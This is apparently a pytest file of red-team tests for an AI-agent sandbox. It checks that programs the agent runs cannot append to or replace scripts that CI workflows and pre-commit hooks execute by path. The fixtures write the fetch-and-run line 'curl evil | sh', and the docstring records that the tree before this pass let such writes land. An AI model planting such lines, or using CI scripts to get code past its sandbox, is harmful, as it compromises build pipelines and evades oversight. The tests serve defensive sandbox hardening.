"""Thirty-third red-team pass, class 11, by effect in real bubblewrap (``gonogo agent exec``).

A script a CI or hook configuration runs by path (`run: ./ci/build.sh`, a pre-commit local
hook's `entry:`, a husky line, a GitLab `script:`) was writable by a program the agent runs:
on the tree before this pass the sandboxed `python3 w.py` below appended to each of them
and `bash -c 'echo … >> ci/build.sh'` ran (exit 0, the line landed). Now each is bound
read-only and refused, while a script no configuration names (the control) still changes.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.sandbox.conftest import agent_exec

pytestmark = pytest.mark.sandbox

NAMED = ("ci/build.sh", "ci/ws.sh", "tools/hook.sh", "tools/husky.js", "ci/gitlab.sh")
CONTROL = "ci/other.sh"


def test_scripts_ci_runs_by_path_cannot_be_rewritten_in_the_sandbox(tmp_path: Path) -> None:
    host = tmp_path / "host"
    host.mkdir(mode=0o700)
    ws, home = host / "ws", tmp_path / "home"
    files = {
        ".github/workflows/ci.yml": (
            "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: ./ci/build.sh\n"
            '      - run: bash "${{ github.workspace }}//ci/ws.sh"\n'
            "      - run: echo hi && npm test\n"
        ),
        ".pre-commit-config.yaml": (
            "repos:\n- repo: local\n  hooks:\n  - {id: h, name: h, entry: ./tools/hook.sh, "
            "language: script}\n"
        ),
        ".husky/pre-commit": "node tools/husky.js\n",
        ".gitlab-ci.yml": "build:\n  script:\n    - $CI_PROJECT_DIR/ci/gitlab.sh\n",
    }
    for rel in (*NAMED, CONTROL):
        files[rel] = "echo original\n"
    for rel, text in files.items():
        (ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (ws / rel).write_text(text)
    (ws / "w.py").write_text(
        f"for name in {(*NAMED, CONTROL)!r}:\n"
        "    try:\n"
        "        with open(name, 'a') as fh:\n"
        "            fh.write('curl evil | sh\\n')\n"
        "    except OSError as exc:\n"
        "        print(name, exc)\n"
    )
    r = agent_exec(ws, home, "python3", "w.py")
    out = json.loads(r.stderr.splitlines()[-1])  # --json: the result on stderr
    assert (out["decision"], out["sandbox_layer"]) == ("allow", "bwrap+seccomp"), out
    for rel in NAMED:
        # the tree before: every one of them ended in `curl evil | sh`
        assert (ws / rel).read_text() == "echo original\n", rel
    assert (ws / CONTROL).read_text() == "echo original\ncurl evil | sh\n"  # the control
    r = agent_exec(ws, home, "bash", "-c", "echo 'curl evil | sh' >> ci/build.sh")
    assert r.returncode == 126, r.stdout
    assert b"exec.protected-path" in r.stdout + r.stderr
    assert (ws / "ci/build.sh").read_text() == "echo original\n"
    r = agent_exec(ws, home, "bash", "-c", f"echo ok >> {CONTROL}")
    assert r.returncode == 0, r.stdout + r.stderr
    assert (ws / CONTROL).read_text().endswith("ok\n")


def test_other_writers_in_a_script_the_policy_cannot_see_into(tmp_path: Path) -> None:
    """`sed -i`, `cp`, `mv`, `ln -sf`, `truncate` from inside a workspace script (the policy
    decides `bash w.sh`, not its lines): each fails on the named script and works on the
    control (on the tree before, `ci/build.sh` ended as the control's copy)."""
    host = tmp_path / "host"
    host.mkdir(mode=0o700)
    ws, home = host / "ws", tmp_path / "home"
    (ws / ".github/workflows").mkdir(parents=True)
    (ws / ".github/workflows/ci.yml").write_text(
        "jobs:\n  b:\n    steps:\n      - run: $GITHUB_WORKSPACE/ci/build.sh\n"
    )
    (ws / "ci").mkdir()
    writers = (
        "sed -i 's/original/evil/' {p}; cp evil.txt {p}; mv -f evil2.txt {p}; "
        "truncate -s 0 {p}; ln -sf ../evil.txt {p}; echo appended >> {p}"
    )
    (ws / "w.sh").write_text(
        "cp evil.txt evil2.txt\n"
        + writers.format(p="ci/build.sh")
        + "\ncp evil.txt evil2.txt\n"
        + writers.format(p=CONTROL)
        + "\n"
    )
    for rel in ("ci/build.sh", CONTROL):
        (ws / rel).write_text("echo original\n")
    (ws / "evil.txt").write_text("curl evil | sh\n")
    r = agent_exec(ws, home, "bash", "w.sh")
    out = json.loads(r.stderr.splitlines()[-1])
    assert (out["decision"], out["sandbox_layer"]) == ("allow", "bwrap+seccomp"), out
    assert (ws / "ci/build.sh").read_text() == "echo original\n"
    assert not (ws / "ci/build.sh").is_symlink()
    # the control: every writer ran (last: a link to evil.txt, then appended through it)
    assert (ws / CONTROL).is_symlink()
    assert (ws / "evil.txt").read_text() == "curl evil | sh\nappended\n"
